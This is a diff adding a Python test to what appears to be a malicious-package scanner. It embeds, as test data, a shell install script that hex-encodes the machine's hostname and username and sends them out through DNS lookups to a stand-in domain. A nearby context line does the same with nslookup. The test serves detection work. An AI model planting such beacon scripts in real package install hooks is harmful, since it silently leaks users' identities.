@@ -503,6 +503,18 @@ def test_shell_file_beacon_split_over_a_variable_is_malicious():
     assert "install-script/beacon" in rules(artifact({"postinstall": "nslookup $(hostname | cut -c1-20).x.oast.example"}))
 
 
+def test_shell_file_beacon_through_a_loop_variable_is_malicious():
+    # (blind set 53's dependency-confusion script: hex labels of the host and user names looked up in a `for` loop)
+    script = (b"#!/bin/sh\nd=\"k3v9q.oast-dns.invalid\"\nh=$(hostname | xxd -p)\nu=$(whoami | xxd -p)\n"
+              b"for q in \"1.$h.$u.$d\" \"2.$d\"; do\n  host -t txt \"$q\" >/dev/null 2>&1\ndone\n")
+    found = findings(artifact({"install": "sh dns.sh || true"}, {"dns.sh": script}))
+    beacon = next(f for f in found if f.rule == "install-script/beacon")
+    assert beacon.line == 6 and beacon.details["collected_at"] == 3 and decide(found).level is Level.MALICIOUS
+    # A loop over constant names looks up no one's identity.
+    plain = script.replace(b"1.$h.$u.$d", b"1.$d")
+    assert "install-script/beacon" not in rules(artifact({"install": "sh dns.sh"}, {"dns.sh": plain}))
+
+
 def test_architecture_in_a_download_url_is_not_a_beacon():
     # A binary picked by `uname` and fetched from the project's releases reports no one (esbuild-style installers).
     script = (b"#!/bin/sh\nARCH=$(uname -m)\nOS=$(uname -s | tr A-Z a-z)\n"
